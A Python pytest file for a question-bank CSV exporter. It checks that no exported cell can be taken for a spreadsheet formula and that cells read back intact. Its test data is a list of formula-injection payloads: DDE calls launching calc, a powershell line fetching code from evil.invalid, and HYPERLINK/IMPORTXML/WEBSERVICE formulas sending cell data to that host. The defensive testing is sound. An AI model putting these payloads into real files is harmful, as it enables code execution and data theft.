"""No cell of the CSV is a formula to a spreadsheet, and every cell can be read back as it was."""

from __future__ import annotations

import io
import json
import re
import unicodedata
from collections.abc import Iterator

import pandas as pd
import pytest

from tests import outputs
from tiku import build
from tiku.exporters import bank_csv, bank_json
from tiku.exporters.bank_types import ItemJson
from tiku.model import Bank

FORMULAS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    "=cmd|'/C powershell IEX(wget evil.invalid/x)'!A0",
    '=HYPERLINK("http://evil.invalid/?"&A1&A2,"click")',
    '=IMPORTXML(CONCAT("http://evil.invalid/?v=",CONCATENATE(A2:E2)),"//a")',
    '=WEBSERVICE("http://evil.invalid/"&A1)',
    '=DDE("cmd";"/C calc";"!A0")',
    "='file:///etc/passwd'#$passwd.A1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@A1",
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "-1",
    "%0A-3+3+cmd|' /C calc'!D2",
    "|calc",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "﹦1+1",
    "﹢1+1",
    "\t=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "\u3000=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u2060@SUM(1)",
    "\u202e=1+1",
    "'=1+1",
    "''=1+1",
    '"=1+1',
    '","=1+1',
    '";=1+1',
    "x\n=1+1",
    "x;=1+1",
    "x\t=1+1",
    "x,=1+1",
    "x\r\n=1+1",
    'x",=1+1,"',
    "=1+1;=2+2",
    "\\=1+1",
    "\\-1",
    "&#61;1+1",
    "`=1+1`",
    "**=1+1**",
    "- =1+1",
    "'",
)  # fmt: skip
EVERYWHERE = """---
tags: [{quoted}, b]
---

# {f}

## 1. {f}

**Question:** {f}

- [x] {f}
- [ ] b{n}

**Hint:** {f}

**Explanation:** {f}

## 2. {f}

**Question:** Which is {n}?

**Answer:** {f}

## 3. Which else?

**Question:** {f} {n}

**Answer:**
{f}
"""


@pytest.fixture(scope="module")
def bank() -> Bank:
    """Formulas in every place of a source, in the names of files and folders too."""
    sources = {}
    for n, f in enumerate(FORMULAS):
        text = EVERYWHERE.format(f=f, n=n, quoted=json.dumps(f))
        sources[f"{f}/{f}{n}.md"] = text
    return build(sources)


def formula(cell: str) -> bool:
    """Tell whether a spreadsheet could take a cell for a formula, whatever it skips before."""
    bare = re.sub(r"^[\s\u200b-\u200f\u202a-\u202e\u2060-\u206f\ufeff]+", "", cell)
    return unicodedata.normalize("NFKC", bare[:1]) in {"=", "+", "-", "@", "|", "%"}


def cells(text: str) -> Iterator[str]:
    """Cut a CSV as a program does that takes commas, semicolons and tabs for separators."""
    for quoted, bare in re.findall(r'(?:^|[,;\t\n])(?:"((?:[^"]|"")*)"|([^,;\t\n]*))', text):
        yield quoted.replace('""', '"') or bare


def test_no_cell_is_a_formula(bank: Bank) -> None:
    text = outputs.table(bank).decode("utf-8-sig")
    found = list(cells(text.removesuffix("\n")))
    assert len(found) == len(bank_csv.COLUMNS) * (1 + len(bank.items))
    assert [cell for cell in found if formula(cell)] == []
    assert sum(cell.startswith("'") for cell in found) > 3 * len(FORMULAS)
    assert formula("\u200b＝1")
    assert not formula("'=1")


def test_every_cell_is_read_back_as_it_was(bank: Bank) -> None:
    items = bank_json.to_json(bank)["items"]
    read = pd.read_csv(
        io.BytesIO(outputs.table(bank)), dtype=str, keep_default_na=False, lineterminator="\n"
    )
    rows = read.map(lambda cell: cell.removeprefix("'")).to_dict("records")
    assert [row["id"] for row in rows] == [item["id"] for item in items]
    assert rows == [row(item, of) for item, of in zip(items, rows, strict=True)]
    assert len(items) > 2 * len(FORMULAS)


def row(item: ItemJson, of: dict[str, str]) -> dict[str, str]:
    """Give the row that an item should have; columns that have no like in the JSON are as read."""
    text = {name: item[name] for name in ("id", "kind", "title", "stem", "answer", "explanation")}
    choices = [f"{choice['label']}. {choice['text']}" for choice in item["choices"]]
    correct = "".join(choice["label"] for choice in item["choices"] if choice["correct"])
    return {
        **of,
        **text,
        "hint": item["hint"],
        "deck": "::".join(item["deck"]),
        "section": " > ".join(item["section"]),
        "tags": " ".join(item["tags"]),
        "choices": "\n".join(choices),
        "correct": correct,
        "sources": "\n".join(f"{each['file']}:{each['line']}" for each in item["sources"]),
        "fingerprint": item["fingerprint"],
    }
